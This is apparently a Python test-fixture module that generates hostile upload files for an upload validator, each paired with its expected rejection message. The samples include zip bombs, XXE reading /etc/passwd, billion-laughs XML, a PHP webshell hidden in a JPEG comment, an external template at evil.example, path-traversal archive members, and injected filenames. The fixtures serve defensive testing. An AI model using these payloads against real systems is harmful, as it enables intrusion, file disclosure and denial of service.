"""Files that somebody means harm with, made here; each with the sentence it is met with, or None where it is made harmless."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

KIND = "This kind of file cannot be opened here."
BROKEN = "This picture cannot be opened."
LARGE = "This picture has more than 30 million points."
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
DOCX = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}


def zipped(*members: tuple[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name) if "\0" in name else name, content)
    return buffer.getvalue()


def docx(*more: tuple[str, str | bytes]) -> bytes:
    return zipped(*DOCX.items(), *more)


def picture(kind: str, side: tuple[int, int] = (40, 30), **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", side, (200, 30, 30)).save(buffer, kind, **options)
    return buffer.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A PNG of one colour, written row by row without holding it."""
    packer, data = zlib.compressobj(9), b""
    row = b"\0" + bytes(width)
    for _ in range(height):
        data += packer.compress(row)
    data += packer.flush()

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def jpeg_with(comment: bytes) -> bytes:
    """A JPEG with a camera's block that names a place, and a comment."""
    plain = picture("JPEG")
    exif = Image.Exif()
    exif[0x010E] = "home of the person who took it"
    block = exif.tobytes()
    return (
        plain[:2] + b"\xff\xe1" + struct.pack(">H", len(block) + 2) + block
        + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + plain[2:]
    )  # fmt: skip


def nested(depth: int) -> bytes:
    inner = zipped(("bomb", b"\0" * 1_000_000))
    for level in range(depth):
        inner = zipped(*((f"{level}-{n}.zip", inner) for n in range(10)))
    return inner


def bomb() -> bytes:
    return docx(("word/media/a.bin", b"\0" * 210_000_000))


def lying_listing() -> bytes:
    """A document whose end says two members while twenty thousand are listed."""
    content = bytearray(docx(*((f"word/{n}.xml", "") for n in range(20_000))))
    place = content.rfind(b"PK\x05\x06")
    content[place + 8 : place + 12] = struct.pack("<HH", 2, 2)
    return bytes(content)


TEMPLATE = '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
ENTITIES = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'

MADE: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "gif that is a script": (lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//", KIND),
    "pdf after a web page": (lambda: b"<html><script>alert(1)</script></html>%PDF-1.7\n%%EOF", KIND),
    "web page in a pdf": (lambda: b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF", None),
    "jpeg with php": (lambda: jpeg_with(b"<?php system($_GET['c']); ?>"), None),
    "jpeg with a zip behind it": (lambda: picture("JPEG") + zipped(("evil.js", "alert(1)")), None),
    "png with a web page behind it": (lambda: picture("PNG") + b"<script>alert(1)</script>", None),
    "jpeg in name only": (lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"<script>alert(1)</script>", BROKEN),
    "png cut short": (lambda: picture("PNG", (900, 900))[:300], BROKEN),
    "png of 41 million points": (lambda: png_of(8200, 5000), LARGE),
    "png of 60,000 by 60,000": (lambda: png_of(60_000, 10)[:16] + struct.pack(">II", 60_000, 60_000) + png_of(60_000, 10)[24:], BROKEN),
    "png with a long text in little": (lambda: picture("PNG")[:33] + _ztxt(50_000_000) + picture("PNG")[33:], BROKEN),
    "drawing with a script": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>', KIND),
    "web page": (lambda: b"<!doctype html><script>alert(1)</script>", KIND),
    "program": (lambda: b"MZ" + bytes(200), KIND),
    "test virus": (lambda: EICAR, KIND),
    "test virus in an archive": (lambda: zipped(("eicar.com", EICAR)), KIND),
    "archive": (lambda: zipped(("a.txt", "hi")), KIND),
    "archives in archives": (lambda: nested(2), KIND),
    "archive of 10,000 members": (lambda: zipped(*((f"{n}.txt", "") for n in range(10_000))), KIND),
    "document of 10,000 members": (lambda: docx(*((f"word/{n}.xml", "") for n in range(10_000))), KIND),
    "document with a lying list": (lying_listing, KIND),
    "document that unpacks to 210 MB": (bomb, KIND),
    "document with an archive inside": (lambda: docx(("word/embeddings/a.zip", zipped(("x", "y")))), KIND),
    "document with macros": (lambda: docx(("word/vbaProject.bin", "x")), KIND),
    "document with a program": (lambda: docx(("word/embeddings/setup.exe", "MZ")), KIND),
    "document with entities": (lambda: zipped(("[Content_Types].xml", "<Types/>"), ("word/document.xml", ENTITIES)), KIND),
    "document with laughs": (lambda: docx(("word/styles.xml", LAUGHS)), KIND),
    "document with a template elsewhere": (lambda: docx(("word/_rels/settings.xml.rels", TEMPLATE)), KIND),
    "document that climbs out": (lambda: docx(("../../../etc/cron.d/evil", "x")), KIND),
    "document with a path of Windows": (lambda: docx(("C:\\windows\\evil.dll", "x")), KIND),
    "archive that holds itself": (lambda: QUINE, KIND),
    "nothing": (lambda: b"", "The file is empty."),
    "noughts": (lambda: bytes(5_000_000), KIND),
    "text with a NUL": (lambda: b"words \0 <script>", KIND),
    "text that looks like a page": (lambda: b"Hello <script>alert(1)</script>", None),
}  # fmt: skip
# The head of a file that unpacks to itself (R. Cox, "Zip Files All The Way Down"): what matters is that none is unpacked.
QUINE = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(16) + b"r/r.zip" + zipped(("r/r.zip", b"PK\x03\x04" * 50))
NAMES = (
    "../../../etc/passwd",
    "..\\..\\win.ini",
    "a\0.php",
    "con",
    "x" * 5000,
    "\u202egpj.exe",
    "<script>.png",
    "a\r\nSet-Cookie: x=1",
)


def _ztxt(size: int) -> bytes:
    body = b"Comment\0\0" + zlib.compress(bytes(size), 9)
    return struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
